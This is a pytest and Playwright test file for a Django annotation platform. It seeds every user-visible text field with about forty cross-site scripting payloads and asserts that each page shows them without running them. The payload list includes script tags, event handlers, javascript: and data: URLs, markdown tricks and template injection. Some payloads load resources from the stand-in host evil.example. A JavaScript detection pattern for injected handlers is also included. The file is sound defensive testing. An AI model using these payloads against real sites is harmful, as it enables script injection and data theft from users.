"""Text made to be run is shown and never run: forty ways, in every place where people's text is shown."""

from __future__ import annotations

import io
import json
from typing import TYPE_CHECKING

import pytest
from django.conf import settings
from django.test import Client
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request

from accounts.actions import people
from accounts.actions.profile import change_profile
from annotation.actions import batches, imports, projects, reviews, submissions, work
from annotation.models import Import, Project, Submission
from exports.actions.datasets import create_dataset
from exports.actions.releases import make_release
from jobs.running import run_due
from tests import builders

if TYPE_CHECKING:
    from collections.abc import Callable

    from accounts.models import User
    from exports.models import Dataset, Release

pytestmark = pytest.mark.django_db(transaction=True)

# `ran()` is what a vector calls when it works.
VECTORS = (
    "<script>ran()</script>",
    "<script src=https://evil.example/a.js></script>",
    '"><script>ran()</script>',
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img src=https://evil.example/a.png>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()>a</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{background:url(https://evil.example/a.png)}</style>",
    "<p style='background:url(https://evil.example/b.png)'>a</p>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<form action=https://evil.example><button autofocus>Go</button></form>",
    "<div hx-get=/sign-in/ hx-trigger=load>a</div>",
    "<div data-hx-on:load=ran() hx-on::load=ran()>a</div>",
    "<a href=javascript:ran()>a</a>",
    "[a](javascript:ran())",
    "[a](JaVaScRiPt:ran())",
    "[a](java&#x73;cript:ran())",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[a](vbscript:ran())",
    "<javascript:ran()>",
    "![a](https://evil.example/c.png)",
    "![a](x' onerror='ran())",
    '[a](https://example.org "onmouseover=ran() x")',
    "`<img src=x onerror=ran()>`",
    "```html\n<script>ran()</script>\n```",
    "```<img src=x onerror=ran()>\nx\n```",
    "$\\href{javascript:ran()}{x}$",
    "$\\text{<img src=x onerror=ran()>}$",
    "| <img src=x onerror=ran()> |\n|---|\n| <script>ran()</script> |",
    "{{ constructor.constructor('ran()')() }} {% debug %} ${ran()}",
    "' onmouseover='ran()' autofocus onfocus='ran()",
)
ALL = "\n\n".join(VECTORS)
NAMES = (
    "<img src=x onerror=ran()>",
    '"><script>ran()</script>',
    "' autofocus onfocus='ran()",
)
LISTEN = """
window.ran = () => console.error("a text was run");
document.addEventListener("securitypolicyviolation", (event) =>
  console.error(`the policy stopped ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
# Nothing in the text of people may carry a handler, a style, an instruction for htmx, or lead to a script.
HOSTILE = """() => [...document.querySelectorAll("main *")].filter((node) =>
  [...node.attributes].some(({ name, value }) => /^on/i.test(name) || name === "srcdoc" ||
    /^\\s*(javascript|vbscript|data):/i.test(value) || /evil\\.example/.test(name === "href" ? "" : value) && name === "src")
  || (node.closest(".prose") && [...node.attributes].some(({ name }) => /^(data-)?hx-|^style$/.test(name)))
  || node.matches("main script, main iframe, main object, main embed, main base, main link, main style, main meta")
).map((node) => node.outerHTML.slice(0, 120))"""


class World:
    """A project whose every text is hostile, with work in every state that shows text."""

    def __init__(self) -> None:
        self.root = builders.administrator()
        change_profile(by=self.root, name=f"Root {NAMES[0]}", single_keys=True)
        self.project = projects.create_project(
            by=self.root,
            name=f"P {NAMES[0]}",
            preset="pairwise",
            description=ALL,
            guideline=f"# {NAMES[0]}\n\n{ALL}",
        )
        projects.publish_guideline(
            by=self.root,
            project=self.project,
            text=f"# {NAMES[1]}\n\n{ALL}\n\nMore {NAMES[2]}",
            note=NAMES[1],
        )
        self.project.refresh_from_db()
        self.author, self.reviewer, self.lead, self.engineer = (
            builders.member(self.project, role, name=f"{role} {name}")
            for role, name in zip(
                ("contributor", "reviewer", "lead", "engineer"), (*NAMES, NAMES[0]), strict=True
            )
        )
        self.team = people.create_team(by=self.root, name=f"T {NAMES[1]}", members=[self.author])
        self.source = self.fill()
        self.judged = self.two_versions()
        builders.approved(self.author, self.reviewer, why=ALL)
        self.returned = builders.submitted(self.author, why=f"Back {ALL}")
        self.decide(self.returned, "request_changes")
        self.dataset, self.release = self.released()

    def fill(self) -> Import:
        """Import tasks whose every text is hostile, and lines that are refused."""
        batch = batches.create_batch(by=self.root, project=self.project, name=f"B {NAMES[0]}")
        rows = [
            {
                "external_id": NAMES[1],
                "prompt": f"{number} {ALL}",
                "responses": [{"text": ALL, "model": NAMES[0]}, {"text": ALL[::-1] + ALL, "model": NAMES[1]}],
                "meta": {NAMES[0]: NAMES[1]},
            }
            for number in range(6)
        ]
        lines = [json.dumps(row) for row in rows] + [ALL.replace("\n", " "), json.dumps({NAMES[0]: ALL})]
        made = imports.start_import(
            by=self.root,
            project=self.project,
            file=io.BytesIO("\n".join(lines).encode()),
            name=f"{NAMES[0]}.jsonl",
            batch=batch,
        )
        run_due()
        batches.assign_batch(by=self.root, batch=batch, open_to_all=True, teams=[self.team])
        batches.open_batch(by=self.root, batch=batch)
        made.refresh_from_db()
        assert (made.accepted, made.refused) == (6, 2)
        return made

    def two_versions(self) -> Submission:
        """An answer that came back and was sent again, so that the review shows what changed."""
        held = builders.claimed(self.author)
        work.flag(by=self.author, assignment=held.public_id, reason="other", comment=ALL)
        first = submissions.submit(
            by=self.author, assignment=held.public_id, answer=builders.answer(why=ALL)
        ).submission
        self.decide(first, "request_changes")
        again = builders.answer(why=f"Changed {NAMES[2]} {ALL}")
        return submissions.submit(by=self.author, assignment=held.public_id, answer=again).submission

    def decide(self, submission: Submission, decision: str) -> None:
        """Decide with a hostile comment."""
        reviews.decide(by=self.reviewer, submission=submission.public_id, decision=decision, comment=ALL)

    def released(self) -> tuple[Dataset, Release]:
        """A release of the one approved record."""
        made = create_dataset(
            by=self.engineer,
            name=f"D {NAMES[0]}",
            description=ALL,
            projects=[self.project.slug],
            format="trl-preference",
        )
        release = make_release(by=self.engineer, dataset=made)
        run_due()
        release.refresh_from_db()
        assert release.state == "published"
        return made, release

    def pages(self) -> list[tuple[User, list[str]]]:
        """Every page that shows text of people, by reader."""
        project, batch = f"/projects/{self.project.slug}/", f"/batches/{self.source.batch.public_id}/"
        held = builders.claimed(self.author, batch=self.source.batch)
        fresh = work.claim_next(by=builders.member(self.project, "contributor"))
        assert fresh is not None
        assert fresh.holder is not None
        return [
            (self.author, ["/", f"/work/{held.public_id}/", f"{project}guideline/?changes", "/account/"]),
            (fresh.holder, [f"/work/{fresh.public_id}/", "/guidelines/"]),
            (self.reviewer, [f"/review/{self.judged.public_id}/", f"/review/{self.returned.public_id}/"]),
            (
                self.lead,
                [
                    *("/projects/", project, f"{project}guideline/edit/", f"{project}import/"),
                    *("/batches/", batch, f"{batch}assign/", f"{batch}edit/"),
                    *(f"/tasks/{fresh.task.public_id}/", f"/imports/{self.source.public_id}/"),
                ],
            ),
            (
                self.engineer,
                [
                    *("/datasets/", "/datasets/new/", f"/datasets/{self.dataset.slug}/"),
                    f"/releases/{self.release.public_id}/",
                ],
            ),
            (self.root, ["/people/", f"/people/{self.author.public_id}/", f"/teams/{self.team.public_id}/"]),
        ]


def window(context: BrowserContext, user: User, problems: list[str]) -> Page:
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    key = client.cookies[settings.SESSION_COOKIE_NAME].value
    context.add_cookies(
        [{"name": settings.SESSION_COOKIE_NAME, "value": key, "domain": "localhost", "path": "/"}]
    )
    context.add_init_script(LISTEN)
    page = context.new_page()

    def dismissed(dialog: Dialog) -> None:
        problems.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def asked(request: Request) -> None:
        if "evil.example" in request.url:
            problems.append(request.url)

    page.on("dialog", dismissed)
    page.on("request", asked)
    return page


def test_text_made_to_be_run_is_shown_and_never_run(new_context: Callable[..., BrowserContext]) -> None:
    problems: list[str] = []
    for user, paths in World().pages():
        page = window(new_context(), user, problems)
        for path in paths:
            answer = page.goto(path)
            assert answer is not None
            assert answer.status == 200, path
            page.wait_for_load_state("networkidle")
            problems += [f"{path}: {found}" for found in page.evaluate(HOSTILE)]
        page.context.close()
    assert not problems, "\n".join(problems)


def test_a_preview_of_hostile_text_runs_nothing(new_context: Callable[..., BrowserContext]) -> None:
    problems: list[str] = []
    project = builders.project("demonstration", name="Answers")
    builders.batch(project, tasks=1)
    author = builders.member(project, "contributor")
    held = builders.claimed(author)
    page = window(new_context(), author, problems)
    page.goto(f"/work/{held.public_id}/")
    editor = page.locator("textarea").first
    editor.fill(ALL)
    editor.press("End")
    with page.expect_response("**/draft/"):
        editor.type(" .")
    page.wait_for_load_state("networkidle")
    problems += page.evaluate(HOSTILE)
    page.reload()
    page.wait_for_load_state("networkidle")
    problems += page.evaluate(HOSTILE)
    assert not problems, "\n".join(problems)


def test_what_would_run_is_noticed(browser: Browser, live_server: object) -> None:
    """The other tests are worth something because this one hears the policy and finds the handler."""
    context = browser.new_context(base_url=str(live_server))
    context.add_init_script(LISTEN)
    page = context.new_page()
    heard: list[str] = []
    page.on("console", lambda message: heard.append(message.text))
    page.goto("/sign-in/")
    page.evaluate(
        "document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror=ran()>')"
    )
    page.wait_for_load_state("networkidle")
    assert any(text.startswith("the policy stopped script-src-attr") for text in heard), heard
    assert page.evaluate(HOSTILE)
    context.close()


def test_the_vectors_are_on_the_pages_at_all(db: None) -> None:
    """What is not shown cannot be run; this says that it is shown."""
    project: Project = World().project
    page = Client()
    page.force_login(builders.administrator(), backend="django.contrib.auth.backends.ModelBackend")
    text = page.get(f"/projects/{project.slug}/guideline/").content.decode()
    assert text.count("ran()") > 30
    assert "<script>ran()" not in text
